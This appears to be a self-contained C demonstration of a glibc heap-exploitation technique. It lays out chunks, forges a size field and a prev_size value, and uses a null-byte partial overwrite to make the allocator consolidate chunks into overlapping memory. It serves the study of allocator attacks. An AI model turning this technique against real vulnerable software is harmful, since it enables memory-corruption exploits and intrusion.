/* The size of a neighbour changes what it merges with. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <assert.h>
int main(void) {
    setbuf(stdin, NULL);
    setbuf(stdout, NULL);
    void *tmp = malloc(0x1);
    void *heap_base = (void *)((long)tmp & (~0xfff));
    size_t size = 0x10000 - ((long)tmp & 0xffff) - 0x20;
    void *padding = malloc(size);
    void *prev = malloc(0x500);
    void *victim = malloc(0x4f0);
    malloc(0x10);
    void *a = malloc(0x4f0);
    malloc(0x10);
    void *b = malloc(0x510);
    malloc(0x10);
    free(a);
    free(b);
    free(prev);
    malloc(0x1000);
    void *prev2 = malloc(0x500);
    assert(prev == prev2);
    ((long *)prev)[1] = 0x501;
    *(long *)(prev + 0x500) = 0x500;
    void *b2 = malloc(0x510);
    ((char *)b2)[0] = '\x10';
    ((char *)b2)[1] = '\x00';
    void *a2 = malloc(0x4f0);
    free(a2);
    free(victim);
    void *a3 = malloc(0x4f0);
    (void)a3;
    ((char *)prev2)[0] = 0;
    (void)padding;
    return 0;
}
